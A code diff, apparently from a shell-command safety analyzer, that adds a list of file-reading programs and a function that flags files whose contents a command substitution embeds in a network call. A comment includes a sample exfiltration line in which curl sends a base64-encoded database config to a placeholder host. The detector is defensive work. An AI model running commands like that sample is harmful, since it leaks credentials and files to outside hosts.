@@ -226,6 +226,52 @@ function uploadedFiles(cmd: ShellCommand): string[] {
   return files;
 }
 
+/** Programs that put a whole file's content (or its start or end) on their output. */
+const FILE_READERS = new Set([
+  'cat',
+  'tac',
+  'head',
+  'tail',
+  'base64',
+  'base32',
+  'basenc',
+  'xxd',
+  'od',
+  'hexdump',
+  'gzip',
+  'bzip2',
+  'xz',
+  'zstd',
+  'brotli',
+  'tar',
+  'zip',
+  'openssl',
+  'uuencode',
+]);
+/** One-line files that name a version or revision: their content in a URL is a path, not data. */
+const VERSION_FILE =
+  /(?:^|\/)(?:VERSION|\.?version|\.nvmrc|\.node-version|\.python-version|\.ruby-version|\.tool-versions|REVISION|\.git\/HEAD)$/i;
+
+/**
+ * Files whose content a `$(...)` in one of this command's arguments puts there
+ * (`curl "https://h/?d=$(base64 -w0 config/database.yml)"`): the call carries that file.
+ */
+function substitutedFiles(cmd: ShellCommand, all: ShellAnalysis): string[] {
+  const words = cmd.argv.slice(1).filter((a) => a.includes('$(') || a.includes('`'));
+  if (words.length === 0) return [];
+  const files: string[] = [];
+  for (const c of all.commands) {
+    if (!c.substitution || !FILE_READERS.has(c.name)) continue;
+    if (!words.some((w) => c.argv.every((x) => w.includes(x)))) continue;
+    const read = [
+      ...c.argv.slice(1).filter((a) => !a.startsWith('-') && /[./]/.test(a)),
+      ...c.redirects.filter((r) => r.op === '<').map((r) => r.target),
+    ];
+    files.push(...read.filter((f) => !VERSION_FILE.test(f)));
+  }
+  return files;
+}
+
 export function networkIntents(cmd: ShellCommand, all: ShellAnalysis): IntentHit[] {
   const hits: IntentHit[] = [];
   if (readsProgramFromStdin(cmd) || runsSubstitution(cmd)) {
@@ -278,7 +324,9 @@ export function networkIntents(cmd: ShellCommand, all: ShellAnalysis): IntentHit
       detail: `${cmd.name} reaches ${[...hosts].join(', ')}`,
       hosts: [...hosts],
     });
-  const files = FETCHERS.has(cmd.name) ? uploadedFiles(cmd) : [];
+  const files = FETCHERS.has(cmd.name)
+    ? [...uploadedFiles(cmd), ...substitutedFiles(cmd, all)]
+    : [];
   const scpUp =
     scpLike &&
     operands.length > 1 &&
